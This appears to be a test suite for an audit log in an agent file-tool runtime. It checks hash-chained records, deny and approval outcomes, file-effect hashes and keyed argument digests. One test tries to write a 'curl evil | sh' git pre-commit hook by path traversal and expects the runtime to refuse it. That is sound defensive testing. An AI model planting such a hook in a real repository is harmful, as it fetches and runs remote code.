import { createHash, createHmac } from 'node:crypto';
import { lstatSync, statSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { LibosError, type ConfigInput, type FileSystemProviderV1 } from '@libos/core';
import { createMemfsProvider } from '@libos/provider-memfs';
import { BUILTIN_TOOLS, createRuntime, defineTool } from '@libos/tools';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { argumentsDigest, canonicalJson, createFileAuditLog, readArgumentKey, RECORD_KEYS } from '../src/index.js';
import { auditedRuntime, callRecordsOf, openLog, recordsOf, temporaryDirectory } from './support.js';

const sha = (text: string) => createHash('sha256').update(text).digest('hex');

type GrantInput = NonNullable<ConfigInput['grants']>[number];

const ASK_SRC: { grants: GrantInput[] } = {
  grants: [
    { path: '.', tree: true, rights: ['read'] },
    { path: 'src', tree: true, rights: ['write'], mode: 'ask' },
  ],
};

describe('a record for every call, whatever its outcome', () => {
  it('records an allowed read with exactly the record fields, in canonical JSON, chained', async () => {
    const log = await openLog();
    const runtime = await auditedRuntime(log, { files: { 'notes.txt': 'hello' } });
    const process = runtime.spawn();
    const args = { path: 'notes.txt' };
    expect((await process.call('read_text_file', args)).ok).toBe(true);
    await runtime.close();
    await log.close();
    const records = recordsOf(log.path);
    expect(records.map((record) => record.tool)).toEqual(['session_start', 'read_text_file', 'session_end']);
    const [start, read] = records;
    for (const record of records) expect(Object.keys(record)).toEqual([...RECORD_KEYS]);
    expect(read).toMatchObject({
      seq: 2,
      session: start!.session,
      process: process.id,
      client: null,
      arguments_sha256: createHmac('sha256', readArgumentKey(log.path)).update(canonicalJson(args)).digest('hex'),
      paths: ['notes.txt'],
      decision: { outcome: 'allowed', rule: null },
      result: { ok: true },
      effects: [],
    });
    expect(read!.time).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
    expect(typeof read!.duration_ms).toBe('number');
    const lines = (await import('node:fs')).readFileSync(log.path, 'utf8').split('\n').filter(Boolean);
    expect(records[0]!.prev).toBe('0'.repeat(64));
    lines.forEach((line, index) => {
      expect(line).toBe(canonicalJson(JSON.parse(line)));
      if (index > 0) expect(records[index]!.prev).toBe(sha(lines[index - 1]!));
    });
    expect(statSync(log.path).mode & 0o777).toBe(0o600);
    expect(statSync(`${log.path}.checkpoints`).mode & 0o777).toBe(0o600);
  });

  it('records invalid arguments, an unknown tool and a path refusal, with no decision (a .git path by its name)', async () => {
    const log = await openLog();
    const runtime = await auditedRuntime(log);
    const process = runtime.spawn();
    await process.call('read_text_file' as string, { path: 7 });
    await process.call('no_such_tool', { path: 'x' });
    await process.call('read_text_file', { path: '../outside' });
    await process.call('read_text_file', { path: '.git/config' });
    await process.call('write_text_file', { path: 'src/../.Git/hooks/pre-commit', content: 'curl evil | sh' });
    const records = callRecordsOf(log.path);
    expect(records.map((record) => [record.tool, record.result, record.decision, record.paths])).toEqual([
      ['read_text_file', { ok: false, code: 'invalid_arguments', effect: 'none' }, null, []],
      ['no_such_tool', { ok: false, code: 'unknown_tool', effect: 'none' }, null, []],
      ['read_text_file', { ok: false, code: 'outside_workspace', effect: 'none' }, null, []],
      ['read_text_file', { ok: false, code: 'protected_path', effect: 'none' }, null, ['.git/config']],
      ['write_text_file', { ok: false, code: 'protected_path', effect: 'none' }, null, ['.Git/hooks/pre-commit']],
    ]);
    await runtime.close();
  });

  it('records a denial with the deny grant that decided it', async () => {
    const log = await openLog();
    const deny: GrantInput = { path: 'private', tree: true, rights: ['read'], mode: 'deny' };
    const runtime = await auditedRuntime(log, { config: { grants: [{ path: '.', tree: true, rights: ['read'] }, deny] } });
    await runtime.spawn().call('read_text_file', { path: 'private/key.txt' });
    await runtime.spawn().call('write_text_file', { path: 'x.txt', content: 'x' });
    const [denied, unmatched] = callRecordsOf(log.path);
    expect(denied).toMatchObject({ paths: ['private/key.txt'], decision: { outcome: 'denied', rule: deny }, result: { ok: false, code: 'denied' } });
    expect(unmatched).toMatchObject({ paths: ['x.txt'], decision: { outcome: 'denied', rule: null }, result: { ok: false, code: 'denied' } });
    await runtime.close();
  });

  it('records an ask that was approved, rejected, unanswered and cancelled, with the SHA-256 of the question', async () => {
    const log = await openLog();
    const shown: string[] = [];
    let answer: 'approve' | 'reject' | 'unavailable' | 'wait' = 'approve';
    const runtime = await auditedRuntime(log, {
      config: ASK_SRC,
      approver: async (request, { signal }) => {
        shown.push(request.message);
        if (answer !== 'wait') return answer;
        return new Promise((_resolve, reject) => signal?.addEventListener('abort', () => reject(new Error('aborted'))));
      },
    });
    const process = runtime.spawn();
    const write = (content: string, signal?: AbortSignal) =>
      process.call('write_text_file', { path: 'src/a.txt', content }, ...(signal === undefined ? [] : [{ signal }]));
    await write('one');
    answer = 'reject';
    await write('two');
    answer = 'unavailable';
    await write('three');
    answer = 'wait';
    const controller = new AbortController();
    const pending = write('four', controller.signal);
    setTimeout(() => controller.abort(), 50);
    await pending;
    const records = callRecordsOf(log.path);
    const rule = ASK_SRC.grants[1];
    expect(records.map((record) => [record.decision, record.result])).toEqual([
      [{ outcome: 'asked', rule, approval: { answer: 'approved', shown_sha256: sha(shown[0]!) } }, { ok: true }],
      [
        { outcome: 'asked', rule, approval: { answer: 'rejected', shown_sha256: sha(shown[1]!) } },
        { ok: false, code: 'approval_rejected', effect: 'none' },
      ],
      [
        { outcome: 'asked', rule, approval: { answer: 'unanswered', shown_sha256: sha(shown[2]!) } },
        { ok: false, code: 'approval_required', effect: 'none' },
      ],
      [
        { outcome: 'asked', rule, approval: { answer: 'unanswered', shown_sha256: sha(shown[3]!) } },
        { ok: false, code: 'approval_required', effect: 'none' },
      ],
    ]);
    expect(records[0]!.effects).toEqual([{ path: 'src/a.txt', before_sha256: null, after_sha256: sha('one'), size_bytes: 3 }]);
    await runtime.close();
  });

  it('records an ask with no approver as unanswered, shown nothing', async () => {
    const log = await openLog();
    const runtime = await auditedRuntime(log, { config: ASK_SRC });
    await runtime.spawn().call('write_text_file', { path: 'src/a.txt', content: 'x' });
    expect(callRecordsOf(log.path)[0]!.decision).toEqual({
      outcome: 'asked',
      rule: ASK_SRC.grants[1],
      approval: { answer: 'unanswered', shown_sha256: null },
    });
    await runtime.close();
  });

  it('records a provider failure with effect unknown for a write', async () => {
    const log = await openLog();
    const memfs = createMemfsProvider();
    const failing: FileSystemProviderV1 = {
      ...memfs,
      writeFile: async () => {
        throw new LibosError('provider_failure', 'The disk went away.');
      },
    };
    const runtime = await createRuntime({ provider: failing, audit: log });
    await runtime.spawn().call('write_text_file', { path: 'a.txt', content: 'x' });
    expect(callRecordsOf(log.path)[0]).toMatchObject({ result: { ok: false, code: 'provider_failure', effect: 'unknown' }, effects: [] });
    await runtime.close();
  });

  it('records the before and after SHA-256 of writes, edits, moves, deletes, appends and copies', async () => {
    const log = await openLog();
    const runtime = await auditedRuntime(log, { files: { 'a.txt': 'alpha', 'dir/b.txt': 'beta', 'log.txt': 'one' } });
    const process = runtime.spawn();
    await process.call('write_text_file', { path: 'a.txt', content: 'ALPHA' });
    await process.call('edit_text_file', { path: 'a.txt', edits: [{ old_text: 'ALPHA', new_text: 'omega' }] });
    await process.call('move_file', { from: 'a.txt', to: 'c.txt' });
    await process.call('delete_file', { path: 'c.txt' });
    await process.call('delete_directory', { path: 'dir', recursive: true });
    await process.call('append_text_file', { path: 'log.txt', content: 'two' });
    await process.call('copy_file', { from: 'log.txt', to: 'd.txt' });
    const effects = callRecordsOf(log.path).map((record) => record.effects);
    expect(effects).toEqual([
      [{ path: 'a.txt', before_sha256: sha('alpha'), after_sha256: sha('ALPHA'), size_bytes: 5 }],
      [{ path: 'a.txt', before_sha256: sha('ALPHA'), after_sha256: sha('omega'), size_bytes: 5 }],
      [
        { path: 'a.txt', before_sha256: sha('omega'), after_sha256: null, size_bytes: null },
        { path: 'c.txt', before_sha256: null, after_sha256: sha('omega'), size_bytes: 5 },
      ],
      [{ path: 'c.txt', before_sha256: sha('omega'), after_sha256: null, size_bytes: null }],
      [{ path: 'dir', before_sha256: null, after_sha256: null, size_bytes: null }],
      [{ path: 'log.txt', before_sha256: sha('one'), after_sha256: sha('onetwo'), size_bytes: 6 }],
      [{ path: 'd.txt', before_sha256: null, after_sha256: sha('onetwo'), size_bytes: 6 }],
    ]);
    await runtime.close();
  });

  it('records tools added with defineTool through the same pipeline', async () => {
    const log = await openLog();
    const shout = defineTool({
      name: 'shout',
      title: 'Shout',
      description: 'Reads a file and counts its bytes.',
      inputSchema: () => z.strictObject({ path: z.string() }),
      outputSchema: z.strictObject({ bytes: z.number() }),
      annotations: { readOnlyHint: true, destructiveHint: false, idempotentHint: true, openWorldHint: false },
      async execute(input, context) {
        const path = context.resolvePath(input.path);
        const permit = await context.authorize({ right: 'read', path, target: 'file' });
        permit.spend();
        const read = await context.provider.readFile(path, { maxBytes: 1000 });
        return { bytes: read.bytes.length };
      },
    });
    const runtime = await auditedRuntime(log, { files: { 'x.txt': 'abc' }, tools: [...BUILTIN_TOOLS, shout] as never });
    await runtime.spawn().call('shout', { path: 'x.txt' });
    expect(callRecordsOf(log.path)[0]).toMatchObject({ tool: 'shout', paths: ['x.txt'], decision: { outcome: 'allowed' }, result: { ok: true } });
    await runtime.close();
  });
});

describe('a call on an ended process', () => {
  it('is refused denied and still has its record', async () => {
    const log = await openLog();
    const runtime = await auditedRuntime(log);
    const agent = runtime.spawn();
    await agent.end();
    const refused = await agent.call('write_text_file', { path: 'late.txt', content: 'x' });
    expect(refused).toMatchObject({ ok: false, error: { code: 'denied', effect: 'none', details: { process: agent.id } } });
    expect(callRecordsOf(log.path)).toMatchObject([
      { tool: 'write_text_file', process: agent.id, paths: [], decision: null, result: { ok: false, code: 'denied', effect: 'none' }, effects: [] },
    ]);
    await runtime.close();
  });
});

describe('the argument digest', () => {
  it("is keyed by the log's own key: a short secret cannot be found by guessing without it", async () => {
    const log = await openLog();
    const key = `${log.path}.key`;
    expect(lstatSync(key).mode & 0o777).toBe(0o600);
    const runtime = await auditedRuntime(log);
    await runtime.spawn().call('write_text_file', { path: 'pin.txt', content: '4821' });
    await runtime.close();
    await log.close();
    const [record] = callRecordsOf(log.path);
    // Whoever reads the log but not the key tries every 4-digit PIN, and none matches.
    const guesses = Array.from({ length: 10_000 }, (_, pin) => canonicalJson({ content: String(pin).padStart(4, '0'), path: 'pin.txt' }));
    expect(guesses.filter((guess) => sha(guess) === record!.arguments_sha256)).toEqual([]);
    // Whoever holds the key proves which call it was: an HMAC-SHA256 keyed with the key's 64 characters.
    expect(
      createHmac('sha256', readArgumentKey(log.path))
        .update(canonicalJson({ content: '4821', path: 'pin.txt' }))
        .digest('hex'),
    ).toBe(record!.arguments_sha256);
    expect(argumentsDigest(readArgumentKey(log.path), { path: 'pin.txt', content: '4821' })).toBe(record!.arguments_sha256);
    expect(argumentsDigest(readArgumentKey(log.path), { path: 'pin.txt', content: '4822' })).not.toBe(record!.arguments_sha256);
    for (const value of [{ path: 'é/日本.txt', content: '🙂\u0000"' }, { n: 1e21, list: [null, true, -0] }, 'x'.repeat(200)]) {
      const keyText = readArgumentKey(log.path);
      expect(argumentsDigest(keyText, value)).toBe(createHmac('sha256', keyText).update(canonicalJson(value)).digest('hex'));
    }

    // A log that continues keeps its key; another log has another.
    const before = readArgumentKey(log.path);
    const again = await createFileAuditLog({ path: log.path });
    await again.close();
    expect(readArgumentKey(log.path)).toBe(before);
    const other = await openLog();
    expect(readArgumentKey(other.path)).not.toBe(readArgumentKey(log.path));
  });

  it('refuses a key file that is a link (it could point into the workspace)', async () => {
    const directory = temporaryDirectory();
    symlinkSync(join(directory, 'elsewhere'), join(directory, 'audit.log.key'));
    await expect(createFileAuditLog({ path: join(directory, 'audit.log') })).rejects.toMatchObject({ code: 'invalid_arguments' });
  });
});
